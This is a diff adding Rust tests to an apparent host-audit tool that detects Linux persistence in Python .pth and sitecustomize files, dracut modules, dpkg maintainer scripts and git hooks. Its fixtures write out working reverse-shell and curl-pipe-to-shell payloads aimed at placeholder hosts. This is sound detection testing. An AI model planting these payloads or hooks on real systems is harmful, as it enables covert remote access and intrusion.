@@ -732,3 +732,429 @@ fn capability_backdoors_and_stock_capabilities() {
         assert!(f.attack.iter().any(|a| a == "T1548.001"));
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// Python start-up hooks, initramfs modules, maintainer scripts, git hooks.
+
+fn ids(f: &[Finding]) -> Vec<(String, String, Severity)> {
+    f.iter()
+        .map(|x| (x.id.clone(), x.subject.clone(), x.severity))
+        .collect()
+}
+
+/// A dpkg database holding one package `name` owning `files` (path, content as shipped).
+fn dpkg_package(root: &Path, name: &str, files: &[(&str, &str)]) {
+    use md5::Digest as _;
+    use std::fmt::Write as _;
+    let status = root.join("var/lib/dpkg/status");
+    let mut all = std::fs::read_to_string(&status).unwrap_or_default();
+    let _ = write!(
+        all,
+        "Package: {name}
+Status: install ok installed
+Version: 1
+Architecture: all
+
+"
+    );
+    w(root, "/var/lib/dpkg/status", &all);
+    let mut list = String::new();
+    let mut sums = String::new();
+    for (p, c) in files {
+        list.push_str(p);
+        list.push('\n');
+        let d = md5::Md5::digest(c.as_bytes());
+        let hex = d.iter().fold(String::new(), |mut h, b| {
+            let _ = write!(h, "{b:02x}");
+            h
+        });
+        let _ = writeln!(sums, "{hex}  {}", p.trim_start_matches('/'));
+    }
+    w(root, &format!("/var/lib/dpkg/info/{name}.list"), &list);
+    w(root, &format!("/var/lib/dpkg/info/{name}.md5sums"), &sums);
+}
+
+const DISTUTILS_PTH: &str = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
+const DRACUT_STOCK: &str = "#!/bin/bash\n# called by dracut\ncheck() {\n    require_binaries sed grep || return 1\n    return 255\n}\ninstall() {\n    inst_hook cmdline 10 \"$moddir/parse-root-opts.sh\"\n}\n";
+
+#[test]
+fn startup_hooks_planted_and_stock() {
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path();
+    accounts(r);
+    // stock: setuptools' distutils-precedence.pth, a namespace package, virtualenv, pip
+    // editable install; a packaged dracut module as shipped; sample git hooks
+    w(
+        r,
+        "/usr/lib/python3/dist-packages/distutils-precedence.pth",
+        DISTUTILS_PTH,
+    );
+    w(r, "/usr/lib/python3/dist-packages/zope.interface-5.5.2-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
+    w(
+        r,
+        "/home/alice/.local/lib/python3.11/site-packages/_virtualenv.pth",
+        "import _virtualenv",
+    );
+    w(
+        r,
+        "/home/alice/.local/lib/python3.11/site-packages/paths.pth",
+        "/home/alice/src/lib\n../other\n",
+    );
+    w(
+        r,
+        "/usr/lib/dracut/modules.d/95rootfs-block/module-setup.sh",
+        DRACUT_STOCK,
+    );
+    w(
+        r,
+        "/usr/lib/dracut/modules.d/90changed/module-setup.sh",
+        DRACUT_STOCK,
+    );
+    dpkg_package(
+        r,
+        "dracut-core",
+        &[
+            (
+                "/usr/lib/dracut/modules.d/95rootfs-block/module-setup.sh",
+                DRACUT_STOCK,
+            ),
+            (
+                "/usr/lib/dracut/modules.d/90changed/module-setup.sh",
+                "#!/bin/bash\ninstall() { :; }\n",
+            ),
+        ],
+    );
+    w(r, "/var/lib/dpkg/info/dracut-core.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n    update-alternatives --install /usr/bin/x x /usr/bin/y 10\n    adduser --system --group --home /var/lib/x x\n    dpkg-statoverride --update --add root x 4750 /usr/bin/y\nfi\n#DEBHELPER#\n");
+    w(
+        r,
+        "/home/alice/proj/.git/hooks/pre-commit.sample",
+        &format!("#!/bin/sh\n{REVSHELL}\n"),
+    );
+    w(r, "/home/alice/proj/.git/hooks/pre-push", "#!/bin/sh\nexec /home/alice/.venv/bin/python3 -mpre_commit hook-impl --hook-type=pre-push\n");
+    // planted (PANIX --python-pth style, Elastic's rules, --initramfs, --malicious-package, --git)
+    w(r, "/usr/local/lib/python3.11/dist-packages/mpl-init.pth", "# matplotlib\nimport os; os.system('nohup bash -c \"bash -i >& /dev/tcp/10.10.10.10/1337 0>&1\" &')\n");
+    w(
+        r,
+        "/usr/lib/python3/dist-packages/sysmon.pth",
+        "import sysmon_hook\n",
+    );
+    w(
+        r,
+        "/usr/local/lib/python3.11/dist-packages/shadow.pth",
+        "/usr/local/lib/x\n/dev/shm/.pylib\n",
+    );
+    w(
+        r,
+        "/usr/lib/python3.11/sitecustomize.py",
+        "import os\nos.system('curl -fsSL http://203.0.113.7/x.sh | sh')\n",
+    );
+    w(r, "/home/alice/.local/lib/python3.11/site-packages/usercustomize.py", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n");
+    w(r, "/usr/lib/dracut/modules.d/99panix/module-setup.sh", "#!/bin/bash\ncheck() { return 0; }\ninstall() {\n    inst_hook pre-pivot 99 \"$moddir/panix.sh\"\n}\n");
+    w(
+        r,
+        "/usr/lib/dracut/modules.d/99panix/panix.sh",
+        &format!("#!/bin/sh\n{REVSHELL}\n"),
+    );
+    w(r, "/var/lib/dpkg/info/panix.postinst", "#!/bin/sh\nset -e\necho '* * * * * root /bin/bash -c \"sh -i >& /dev/tcp/10.0.0.1/1337 0>&1\"' \\\n  > /etc/cron.d/panix\n");
+    w(
+        r,
+        "/home/alice/proj/.git/hooks/pre-commit",
+        &format!("#!/bin/sh\n{REVSHELL}\n"),
+    );
+    w(
+        r,
+        "/srv/site.git/hooks/post-receive",
+        "#!/bin/sh\ncurl -s http://203.0.113.7/p | bash\n",
+    );
+    std::fs::create_dir_all(r.join("srv/site.git/objects")).unwrap();
+
+    let f = run(r);
+    let got = ids(&f);
+    let want: &[(&str, &str, Severity)] = &[
+        (
+            "persistence.python-pth",
+            "/usr/local/lib/python3.11/dist-packages/mpl-init.pth",
+            Severity::Critical,
+        ),
+        (
+            "persistence.python-pth",
+            "/usr/lib/python3/dist-packages/sysmon.pth",
+            Severity::Medium,
+        ),
+        (
+            "persistence.python-pth",
+            "/usr/local/lib/python3.11/dist-packages/shadow.pth",
+            Severity::High,
+        ),
+        (
+            "persistence.python-customize",
+            "/usr/lib/python3.11/sitecustomize.py",
+            Severity::Critical,
+        ),
+        (
+            "persistence.python-customize",
+            "/home/alice/.local/lib/python3.11/site-packages/usercustomize.py",
+            Severity::Critical,
+        ),
+        (
+            "persistence.initramfs-module",
+            "/usr/lib/dracut/modules.d/99panix/module-setup.sh",
+            Severity::Medium,
+        ),
+        (
+            "persistence.initramfs-module",
+            "/usr/lib/dracut/modules.d/99panix/panix.sh",
+            Severity::Critical,
+        ),
+        (
+            "persistence.initramfs-module",
+            "/usr/lib/dracut/modules.d/90changed/module-setup.sh",
+            Severity::High,
+        ),
+        (
+            "persistence.package-script",
+            "/var/lib/dpkg/info/panix.postinst",
+            Severity::Critical,
+        ),
+        (
+            "persistence.git-hook",
+            "/home/alice/proj/.git/hooks/pre-commit",
+            Severity::Critical,
+        ),
+        (
+            "persistence.git-hook",
+            "/srv/site.git/hooks/post-receive",
+            Severity::Critical,
+        ),
+    ];
+    for (id, subject, sev) in want {
+        assert!(
+            got.iter()
+                .any(|(i, s, v)| i == id && s == subject && v == sev),
+            "missing {id} {subject} {sev:?} in {got:#?}"
+        );
+    }
+    let startup: Vec<_> = got
+        .iter()
+        .filter(|(i, _, _)| {
+            ["python-", "initramfs", "package-script", "git-hook"]
+                .iter()
+                .any(|p| i.contains(p))
+        })
+        .collect();
+    assert_eq!(startup.len(), want.len(), "unexpected: {startup:#?}");
+    // evidence: file and line; ATT&CK
+    let pth = f
+        .iter()
+        .find(|x| x.id == "persistence.python-pth" && x.severity == Severity::Critical)
+        .unwrap();
+    assert_eq!(pth.evidence[0].line, Some(2));
+    assert!(pth.attack.iter().any(|a| a == "T1546.018"));
+    let pkg = f
+        .iter()
+        .find(|x| x.id == "persistence.package-script")
+        .unwrap();
+    assert_eq!(pkg.evidence[0].line, Some(3));
+    assert!(pkg.attack.iter().any(|a| a == "T1546.016"));
+    assert!(f
+        .iter()
+        .find(|x| x.id == "persistence.initramfs-module")
+        .unwrap()
+        .attack
+        .iter()
+        .any(|a| a == "T1542"));
+}
+
+/// The stock start-up hooks and maintainer scripts of Debian 12's real packages (downloaded
+/// by the test; skipped with a printed reason offline): setuptools' distutils-precedence.pth,
+/// zope.interface's namespace .pth, virtualenv, dracut's modules, and their maintainer
+/// scripts, installed into a root with their dpkg records, give no finding of this module.
+#[test]
+fn real_debian_packages_are_quiet() {
+    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("startup-debs");
+    let names = [
+        "python3-setuptools",
+        "python3-zope.interface",
+        "python3-virtualenv",
+        "python3-coverage",
+        "dracut-core",
+        "initramfs-tools-core",
+        "openssh-server",
+        "cron",
+        "git",
+    ];
+    let debs = ferret_testkit::debs::fetch(&cache, &names);
+    if debs.is_empty() {
+        eprintln!("skipped: no Debian package could be had");
+        return;
+    }
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path();
+    accounts(r);
+    let mut installed = 0;
+    for (n, deb) in &debs {
+        installed += usize::from(ferret_testkit::debs::install(r, n, deb));
+    }
+    assert!(installed > 0);
+    let pth = std::fs::read_dir(r.join("usr/lib/python3/dist-packages")).map_or(0, |d| {
+        d.filter_map(Result::ok)
+            .filter(|e| e.file_name().to_string_lossy().ends_with(".pth"))
+            .count()
+    });
+    eprintln!("{installed} packages installed, {pth} .pth files");
+    let mut o = HardenOptions::default();
+    o.checks = vec![Check::Persistence];
+    let out = audit_root(&HostRoot::new(r).unwrap(), &o, &Control::new());
+    let noisy: Vec<_> = ids(&out.findings)
+        .into_iter()
+        .filter(|(i, _, _)| {
+            ["python-", "initramfs", "package-script", "git-hook"]
+                .iter()
+                .any(|p| i.contains(p))
+        })
+        .collect();
+    assert!(noisy.is_empty(), "{noisy:#?}");
+    // the same .pth planted unpackaged elsewhere is still quiet (stock form), a changed one not
+    if pth > 0 {
+        let p = r.join("usr/lib/python3/dist-packages/distutils-precedence.pth");
+        if p.exists() {
+            std::fs::write(&p, "import os; os.system('id')\n").unwrap();
+            let out = audit_root(&HostRoot::new(r).unwrap(), &o, &Control::new());
+            assert!(
+                out.findings
+                    .iter()
+                    .any(|f| f.id == "persistence.python-pth" && f.severity == Severity::High),
+                "{:#?}",
+                ids(&out.findings)
+            );
+        }
+    }
+}
+
+/// This machine's maintainer scripts (`/var/lib/dpkg/info`, copied into a fixture root): all
+/// stock, so no `persistence.package-script`. Prints the count and the time taken.
+#[test]
+fn this_machines_maintainer_scripts_are_quiet() {
+    let Ok(dir) = std::fs::read_dir("/var/lib/dpkg/info") else {
+        eprintln!("skipped: no /var/lib/dpkg/info on this machine");
+        return;
+    };
+    let t = tempfile::tempdir().unwrap();
+    let info = t.path().join("var/lib/dpkg/info");
+    std::fs::create_dir_all(&info).unwrap();
+    let mut n = 0;
+    for e in dir.filter_map(Result::ok) {
+        let name = e.file_name().to_string_lossy().into_owned();
+        if [".preinst", ".postinst", ".prerm", ".postrm"]
+            .iter()
+            .any(|s| name.ends_with(s))
+            && std::fs::copy(e.path(), info.join(&name)).is_ok()
+        {
+            n += 1;
+        }
+    }
+    assert!(n > 0, "no maintainer script could be read");
+    let mut o = HardenOptions::default();
+    o.checks = vec![Check::Persistence];
+    let start = std::time::Instant::now();
+    let out = audit_root(&HostRoot::new(t.path()).unwrap(), &o, &Control::new());
+    eprintln!(
+        "{n} maintainer scripts read in {:?} (wall clock, debug build, under load)",
+        start.elapsed()
+    );
+    let noisy: Vec<_> = out
+        .findings
+        .iter()
+        .filter(|f| f.id == "persistence.package-script")
+        .map(|f| (&f.subject, &f.evidence))
+        .collect();
+    assert!(noisy.is_empty(), "{noisy:#?}");
+}
+
+/// Real rpm databases (go-rpmdb's CentOS-family Berkeley DB, CBL-Mariner SQLite, SLE NDB):
+/// their scriptlets are read and none is reported.
+#[test]
+#[cfg_attr(not(ferret_testdata), ignore = "needs FERRET_TESTDATA (go-rpmdb)")]
+fn real_rpm_scriptlets_are_quiet() {
+    for (src, dst) in [
+        ("go-rpmdb/libuuid/Packages", "var/lib/rpm/Packages"),
+        (
+            "go-rpmdb/cbl-mariner-2.0/rpmdb.sqlite",
+            "var/lib/rpm/rpmdb.sqlite",
+        ),
+        (
+            "go-rpmdb/sle15-bci/Packages.db",
+            "usr/lib/sysimage/rpm/Packages.db",
+        ),
+    ] {
+        let t = tempfile::tempdir().unwrap();
+        w(
+            t.path(),
+            dst,
+            &std::fs::read(ferret_testkit::testdata(src)).unwrap(),
+        );
+        let root = HostRoot::new(t.path()).unwrap();
+        let mut ro = ferret_baseline::pkg::rpm::ReadOptions::default();
+        ro.scripts = true;
+        ro.files = false;
+        let db = ferret_baseline::pkg::rpm::read_root(&root, &ro, &Control::new())
+            .unwrap()
+            .unwrap();
+        let scripts: usize = db.packages.iter().map(|p| p.scripts.len()).sum();
+        assert!(scripts > 0, "{src}: no scriptlet read");
+        let mut o = HardenOptions::default();
+        o.checks = vec![Check::Persistence];
+        let out = audit_root(&root, &o, &Control::new());
+        let noisy: Vec<_> = ids(&out.findings)
+            .into_iter()
+            .filter(|(i, _, _)| i == "persistence.package-script")
+            .collect();
+        assert!(noisy.is_empty(), "{src}: {noisy:#?}");
+        eprintln!(
+            "{src}: {} packages, {scripts} scriptlets, quiet",
+            db.packages.len()
+        );
+    }
+}
+
+/// The git hook search is bounded: a repository deeper than `MAX_GIT_DEPTH` below a home is
+/// not read, and a tree with more than `MAX_GIT_DIRS` directories is cut short with an error
+/// record naming it (the other homes are still searched).
+#[test]
+fn git_search_is_bounded() {
+    use ferret_harden::persistence::{MAX_GIT_DEPTH, MAX_GIT_DIRS};
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path();
+    accounts(r);
+    let hook = format!("#!/bin/sh\n{REVSHELL}\n");
+    let shallow = format!(
+        "/home/alice/{}.git/hooks/post-merge",
+        "d/".repeat(MAX_GIT_DEPTH - 1)
+    );
+    let deep = format!(
+        "/home/alice/{}.git/hooks/post-merge",
+        "d/".repeat(MAX_GIT_DEPTH + 1)
+    );
+    w(r, &shallow, &hook);
+    w(r, &deep, &hook);
+    for i in 0..=MAX_GIT_DIRS {
+        std::fs::create_dir_all(r.join(format!("srv/many/{i}"))).unwrap();
+    }
+    let mut o = HardenOptions::default();
+    o.checks = vec![Check::Persistence];
+    let out = audit_root(&HostRoot::new(r).unwrap(), &o, &Control::new());
+    let hooks: Vec<&str> = out
+        .findings
+        .iter()
+        .filter(|f| f.id == "persistence.git-hook")
+        .map(|f| f.subject.as_str())
+        .collect();
+    assert_eq!(hooks, vec![shallow.as_str()]);
+    assert!(
+        out.errors
+            .iter()
+            .any(|e| e.path.as_deref() == Some("/srv") && e.message.contains("stopped")),
+        "{:?}",
+        out.errors
+    );
+}
